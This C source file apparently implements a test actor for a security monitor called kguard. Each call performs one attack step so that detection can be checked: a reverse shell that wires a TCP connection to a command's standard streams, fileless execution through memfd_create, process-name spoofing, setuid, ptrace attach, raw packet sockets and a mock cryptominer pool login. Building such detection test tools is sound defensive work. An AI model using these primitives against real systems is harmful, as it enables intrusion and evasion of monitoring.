// SPDX-License-Identifier: Apache-2.0
/*
 * kguard's program in the base image. It performs, one per call, those steps of attacks that shells can't, and its exit
 * status says whether the step succeeded. Copied under another name and started with a stratum URL, it imitates a miner
 * without mining.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

static const char usage[] = "usage: kguard-actor ACTION\n"
                            "  connect HOST PORT [TEXT]      connect by TCP, send the text, print what is answered\n"
                            "  send HOST PORT TEXT           send a UDP datagram\n"
                            "  listen PORT [SECONDS]         listen by TCP on all addresses (SECONDS: 1)\n"
                            "  shell-back HOST PORT COMMAND  connect, and run a command on the connection\n"
                            "  raw-socket                    open a packet socket\n"
                            "  memfd FILE [ARG...]           run a copy of a program that has no name in any folder\n"
                            "  as NAME FILE [ARG...]         run a program under another argv[0]\n"
                            "  setuid UID FILE [ARG...]      become a user, and run a program\n"
                            "  trace PID                     attach to a process as a debugger, and detach\n"
                            "  hold SECONDS                  do nothing\n"
                            "  ... stratum+tcp://HOST:PORT ...  log in to a stratum pool, print what is answered\n";

_Noreturn static void fail(const char *what) {
    fprintf(stderr, "kguard-actor: %s: %s\n", what, strerror(errno));
    exit(1);
}

_Noreturn static void misuse(void) {
    fputs(usage, stderr);
    exit(2);
}

/* A numeric address, or one from /etc/hosts. */
static struct in_addr resolve(const char *host) {
    struct in_addr address;
    if (inet_aton(host, &address))
        return address;
    FILE *hosts = fopen("/etc/hosts", "re");
    char line[1024];
    while (hosts && fgets(line, sizeof line, hosts)) {
        char *rest;
        line[strcspn(line, "#\n")] = 0;
        const char *number = strtok_r(line, " \t", &rest);
        if (!number || !inet_aton(number, &address))
            continue;
        for (const char *name; (name = strtok_r(NULL, " \t", &rest));) {
            if (!strcmp(name, host)) {
                fclose(hosts);
                return address;
            }
        }
    }
    errno = ENOENT;
    fail(host);
}

static int connect_to(const char *host, const char *port, int type) {
    struct sockaddr_in address = {
        .sin_family = AF_INET, .sin_addr = resolve(host), .sin_port = htons((uint16_t)atoi(port))};
    int fd = socket(AF_INET, type | SOCK_CLOEXEC, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&address, sizeof address))
        fail("connect");
    return fd;
}

static void send_text(int fd, const char *text) {
    size_t length = strlen(text);
    if (write(fd, text, length) != (ssize_t)length)
        fail("send");
}

/* Prints one answer. Waits at most three seconds for it. */
static bool print_answer(int fd) {
    struct timeval patience = {.tv_sec = 3};
    char data[4096];
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    ssize_t n = read(fd, data, sizeof data);
    return n > 0 && write(1, data, (size_t)n) == n;
}

static int act_connect(char *args[]) {
    int fd = connect_to(args[0], args[1], SOCK_STREAM);
    if (args[2]) {
        send_text(fd, args[2]);
        shutdown(fd, SHUT_WR);
        print_answer(fd);
    }
    return 0;
}

static int act_send(char *args[]) {
    send_text(connect_to(args[0], args[1], SOCK_DGRAM), args[2]);
    return 0;
}

static int act_listen(char *args[]) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(args[0]))};
    int on = 1;
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0)
        fail("socket");
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (bind(fd, (struct sockaddr *)&address, sizeof address) || listen(fd, 8))
        fail("listen");
    sleep(args[1] ? (unsigned)atoi(args[1]) : 1);
    return 0;
}

_Noreturn static void run(const char *file, char *args[]) {
    execve(file, args, environ);
    fail(file);
}

static int act_shell_back(char *args[]) {
    int fd = connect_to(args[0], args[1], SOCK_STREAM);
    for (int i = 0; i < 3; i++)
        if (dup2(fd, i) < 0)
            fail("dup2");
    run(args[2], args + 2);
}

static int act_raw_socket(char *args[]) {
    (void)args;
    if (socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)) < 0)
        fail("packet socket");
    return 0;
}

static int act_memfd(char *args[]) {
    int from = open(args[0], O_RDONLY | O_CLOEXEC);
    int to = memfd_create("kguard", MFD_CLOEXEC);
    struct stat info;
    if (from < 0 || to < 0 || fstat(from, &info) || sendfile(to, from, NULL, (size_t)info.st_size) != info.st_size)
        fail(args[0]);
    fexecve(to, args, environ);
    fail("fexecve");
}

static int act_as(char *args[]) {
    const char *file = args[1];
    args[1] = args[0];
    run(file, args + 1);
}

static int act_setuid(char *args[]) {
    uid_t uid = (uid_t)strtoul(args[0], NULL, 10);
    if (setgroups(0, NULL) || setgid(uid) || setuid(uid))
        fail("setuid");
    run(args[1], args + 1);
}

static int act_trace(char *args[]) {
    pid_t pid = (pid_t)atol(args[0]);
    if (ptrace(PTRACE_ATTACH, pid, NULL, NULL))
        fail("ptrace");
    if (waitpid(pid, NULL, __WALL) != pid || ptrace(PTRACE_DETACH, pid, NULL, NULL))
        fail("ptrace");
    return 0;
}

static int act_hold(char *args[]) {
    sleep((unsigned)atoi(args[0]));
    return 0;
}

static const struct {
    const char *name;
    int args;
    int (*act)(char *args[]);
} actions[] = {
    {"connect", 2, act_connect},
    {"send", 3, act_send},
    {"listen", 1, act_listen},
    {"shell-back", 3, act_shell_back},
    {"raw-socket", 0, act_raw_socket},
    {"memfd", 1, act_memfd},
    {"as", 2, act_as},
    {"setuid", 2, act_setuid},
    {"trace", 1, act_trace},
    {"hold", 1, act_hold},
};

static int play_miner(char *url) {
    char *host = strstr(url, "://") + 3;
    char *colon = strchr(host, ':');
    if (!colon)
        misuse();
    *colon = 0;
    int fd = connect_to(host, colon + 1, SOCK_STREAM);
    send_text(fd,
              "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"kguard\",\"pass\":\"x\"}}\n");
    if (!print_answer(fd))
        fail("the pool did not answer");
    return 0;
}

int main(int argc, char *argv[]) {
    for (int i = 1; i < argc; i++) {
        if (!strncmp(argv[i], "stratum", 7) && strstr(argv[i], "://")) {
            char *url = strdup(argv[i]); /* the arguments stay visible in /proc */
            return url ? play_miner(url) : 1;
        }
    }
    for (size_t i = 0; argc > 1 && i < sizeof actions / sizeof *actions; i++)
        if (!strcmp(argv[1], actions[i].name) && argc - 2 >= actions[i].args)
            return actions[i].act(argv + 2);
    misuse();
}
